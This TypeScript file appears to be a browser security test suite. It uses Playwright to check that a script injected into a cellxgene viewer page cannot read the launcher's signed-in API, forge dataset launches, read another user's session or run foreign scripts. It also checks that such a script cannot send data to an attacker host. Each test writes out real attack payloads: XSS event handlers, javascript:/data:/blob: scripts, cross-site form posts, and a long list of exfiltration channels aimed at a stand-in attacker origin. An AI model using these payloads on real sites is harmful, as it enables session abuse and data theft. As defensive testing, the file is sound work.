/** A script that got into a viewer's page: what a real browser lets it do. */
import type { Page } from 'playwright-core'
import { assert, launchRightly, type Staged, settle, somebody } from './browser-row.ts'
import { allowed } from './row.ts'

const status = (page: Page) => page.evaluate(() => fetch('/v/pbmc/-/status').then((answer) => answer.status))
export const scriptRows: readonly Staged[] = [
  {
    name: 'a script in the page reads from the launcher',
    does: 'fetch with credentials, XMLHttpRequest, a frame, a window whose document it reads',
    async attack(world, stage) {
      const { page, context, blocked } = await stage.viewerPage(await somebody(world))
      const got = await page.evaluate(async (app) => {
        const tries = {
          fetch: fetch(`${app}/api/me`, { credentials: 'include' }).then((answer) => answer.text()),
          opaque: fetch(`${app}/api/me`, { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.type),
          xhr: new Promise((resolve, reject) => {
            const request = new XMLHttpRequest()
            request.withCredentials = true
            request.onload = () => resolve(request.responseText)
            request.onerror = () => reject(new Error('no'))
            request.open('GET', `${app}/api/me`)
            request.send()
          }),
          frame: new Promise((resolve, reject) => {
            const frame = document.createElement('iframe')
            frame.src = `${app}/`
            document.addEventListener('securitypolicyviolation', () => reject(new Error('no')), { once: true })
            frame.onload = () => resolve(frame.contentDocument?.body.textContent ?? 'loaded')
            document.body.append(frame)
          }),
          window: new Promise((resolve, reject) => {
            const other = window.open(`${app}/`)
            setTimeout(() => {
              try {
                resolve(other?.document.body.textContent || Promise.reject(new Error('no')))
              } catch (error) {
                reject(error)
              }
            }, 2_000)
          }),
        }
        const ends = await Promise.allSettled(Object.values(tries))
        return Object.keys(tries).filter((_, at) => ends[at]?.status === 'fulfilled')
      }, world.bed.appUrl)
      await context.close()
      assert(got.length === 0, `went through: ${got.join(', ')}`)
      return `blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(world, stage) {
      const person = await somebody(world)
      const { page, context } = await stage.viewerPage(person)
      assert((await status(page)) === 200, 'the page itself can’t ask its lobby')
      // The same cookie, from a page of the launcher.
      await page.goto(`${world.bed.appUrl}/`)
      assert(
        (await page.evaluate(() => fetch('/api/me').then((answer) => answer.status))) === 200,
        'not signed in at all',
      )
      await context.close()
    },
  },
  {
    name: 'a script in the page acts in the launcher',
    does: 'sends a form, into a new window and by fetch, that launches another dataset as the person',
    async attack(world, stage) {
      const person = await somebody(world, ['lab'])
      const { page, context, blocked } = await stage.viewerPage(person)
      await page.evaluate((app) => {
        for (const target of ['_self', '_blank']) {
          const form = Object.assign(document.createElement('form'), {
            method: 'post',
            action: `${app}/datasets/liver/launch`,
            target,
          })
          document.body.append(form)
          form.submit()
        }
        const init = { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"datasetId":"liver"}' } as const
        void fetch(`${app}/api/sessions`, init).catch(() => {})
        navigator.sendBeacon(`${app}/api/sessions`, '{"datasetId":"liver"}')
      }, world.bed.appUrl)
      await settle(page)
      const launched = await world.bed.launcher.findSession(person.who, 'liver')
      assert(launched === null, 'a viewer was launched')
      assert(page.url() === `${world.bed.viewUrl}/v/pbmc/`, `the page went to ${page.url()}`)
      await context.close()
      return `blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(world, stage) {
      const person = await somebody(world, ['lab'])
      const { page, context } = await stage.viewerPage(person)
      await page.goto(`${world.bed.appUrl}/datasets/liver`)
      await page.click('button:has-text("Open")')
      await world.bed.untilReady(person.who, 'liver')
      await context.close()
    },
  },
  {
    name: 'the same where the page has no policy at all',
    does: 'as if cellxgene’s page had none: hosts and origin checks alone must hold',
    async attack(world, stage) {
      const person = await somebody(world, ['lab'])
      const { page, context } = await stage.viewerPage(person, { bypassCSP: true })
      const read = await page.evaluate(async (app) => {
        const init = { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"datasetId":"liver"}' } as const
        await fetch(`${app}/api/sessions`, init).catch(() => {}) // its answer is kept from us, not the request
        return fetch(`${app}/api/me`, { credentials: 'include' }).then(
          (answer) => answer.text(),
          () => 'blocked',
        )
      }, world.bed.appUrl)
      assert(read === 'blocked', `read ${read}`)
      await page.evaluate((app) => {
        const form = Object.assign(document.createElement('form'), {
          method: 'post',
          action: `${app}/datasets/liver/launch`,
        })
        document.body.append(form)
        form.submit()
      }, world.bed.appUrl)
      await page.waitForURL(/localhost/)
      assert((await world.bed.launcher.findSession(person.who, 'liver')) === null, 'a viewer was launched')
      const words = await page.textContent('main')
      await context.close()
      return `read blocked; the form: ${words?.includes('Not allowed') ? '403' : 'sign-in'}`
    },
    twin: launchRightly,
  },
  {
    name: 'a script in the page reads another’s session, or its own cookies',
    does: 'calls bob’s route and page with every header, and reads `document.cookie`',
    async attack(world, stage) {
      const { page, context } = await stage.viewerPage(await somebody(world))
      const { bob } = world.sessions
      const got = await page.evaluate(
        async ({ path, owner }) => {
          const headers = { 'x-cxod-owner': owner, 'x-cxod-dataset-version': 'version-of-pbmc', 'x-cxod-base': '1' }
          const read = await fetch(`${path}api/v0.2/annotations/obs`, { headers })
          const write = await fetch(`${path}api/v0.2/annotations/obs`, { method: 'PUT', headers, body: 'x' })
          return { statuses: [read.status, write.status], cookies: document.cookie }
        },
        { path: bob.routePath, owner: bob.ownerId },
      )
      await context.close()
      assert(got.cookies === '', 'a cookie can be read')
      assert(
        got.statuses.every((code) => code === 401),
        `answered ${got.statuses}`,
      )
      return `${got.statuses.join(', ')}; no cookie to be read`
    },
    async twin({ bed, view, sessions: { bob } }) {
      allowed(await view(`${bob.routePath}api/v0.2/annotations/obs`, { headers: await bed.pageCall(bob) }))
    },
  },
  {
    name: 'names from a file that are script',
    does: 'inline scripts, event handlers, `javascript:`, `data:` and `blob:` scripts, an answer of the gate as script, a worker, another base',
    async attack(world, stage) {
      const { page, context, blocked } = await stage.viewerPage(await somebody(world))
      const session = await world.bed.launcher.findSession(world.ada.who, 'pbmc')
      await page.evaluate(async (route) => {
        const ran = 'window.ranForeign = true'
        document.body.insertAdjacentHTML(
          'beforeend',
          `<img src="x:" onerror="${ran}"><svg onload="${ran}"></svg><a id="evil" href="javascript:${ran}">x</a>`,
        )
        document.getElementById('evil')?.click()
        const blob = URL.createObjectURL(new Blob([ran], { type: 'text/javascript' }))
        for (const src of [`data:text/javascript,${ran}`, blob, `${route}api/v0.2/config`, '/v/pbmc/-/status', ''])
          document.body.append(
            Object.assign(document.createElement('script'), src === '' ? { textContent: ran } : { src }),
          )
        document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
        try {
          new Worker(blob)
        } catch {}
        await navigator.serviceWorker?.register('/v/pbmc/-/status').catch(() => {})
      }, session?.routePath ?? '')
      await settle(page)
      assert((await page.evaluate(() => 'ranForeign' in window)) === false, 'foreign script ran')
      assert((await page.evaluate(() => document.baseURI)) === `${world.bed.viewUrl}/v/pbmc/`, 'the base was moved')
      await context.close()
      return `blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(world, stage) {
      const { page, context } = await stage.viewerPage(await somebody(world))
      // With the page's own nonce it runs: the row above is refused for want of it.
      const ran = await page.evaluate(() => {
        const nonce = document.querySelector('script[nonce]')
        const script = document.createElement('script')
        script.nonce = nonce instanceof HTMLElement ? (nonce.nonce ?? '') : ''
        script.textContent = 'window.ranOwn = true'
        document.body.append(script)
        return 'ranOwn' in window
      })
      assert(ran, 'not even a script with the nonce runs')
      await context.close()
    },
  },
  {
    name: 'a script in the page sends what it reads elsewhere',
    does: 'every request that a page can make by itself: fetch, beacon, image, style, font, socket, prefetch, ping, media, form …',
    async attack(world, stage) {
      const { page, context, blocked } = await stage.viewerPage(await somebody(world))
      stage.attacker.heard()
      await page.evaluate(async (evil) => {
        const add = (tag: string, fields: object) =>
          document.body.append(Object.assign(document.createElement(tag), fields))
        const quiet = (make: () => unknown) => {
          try {
            const made = make()
            if (made instanceof Promise) made.catch(() => {})
          } catch {}
        }
        quiet(() => fetch(`${evil}/fetch`, { mode: 'no-cors', method: 'POST', body: 'x' }))
        quiet(() => navigator.sendBeacon(`${evil}/beacon`, 'x'))
        quiet(() => new WebSocket(`${evil.replace('http', 'ws')}/socket`))
        quiet(() => new EventSource(`${evil}/events`))
        quiet(() => import(`${evil}/module.js`))
        quiet(() => new Image().setAttribute('src', `${evil}/image`))
        quiet(() => new FontFace('x', `url(${evil}/font)`).load())
        quiet(() => new Worker(`${evil}/worker`))
        add('img', { src: `${evil}/img`, srcset: `${evil}/srcset 2x` })
        for (const rel of ['prefetch', 'preload', 'stylesheet', 'icon', 'manifest', 'modulepreload', 'prerender'])
          add('link', { rel, href: `${evil}/${rel}`, as: 'image' })
        add('style', { textContent: `@import url(${evil}/import); body { background: url(${evil}/css) }` })
        add('iframe', { src: `${evil}/frame` })
        add('object', { data: `${evil}/object` })
        add('embed', { src: `${evil}/embed` })
        add('video', { src: `${evil}/video`, poster: `${evil}/poster` })
        add('audio', { src: `${evil}/audio` })
        add('script', { src: `${evil}/script` })
        add('a', { id: 'ping', href: '#', ping: `${evil}/ping` })
        document.getElementById('ping')?.click()
        const form = Object.assign(document.createElement('form'), { action: `${evil}/form`, method: 'post' })
        document.body.append(form)
        form.submit()
      }, stage.attacker.origin)
      await settle(page)
      const heard = stage.attacker.heard()
      await context.close()
      assert(heard.length === 0, `got out: ${heard.join(', ')}`)
      return `heard of nothing; blocked: ${[...new Set(blocked)].join(', ')}`
    },
    async twin(_world, stage) {
      const page = await stage.browser.newPage()
      stage.attacker.serve('<img src="/picture">')
      await page.goto(`${stage.attacker.origin}/`)
      await settle(page)
      await page.close()
      const heard = stage.attacker.heard()
      assert(heard.includes('GET /picture'), 'the attacker’s host hears of nothing at all')
    },
  },
]
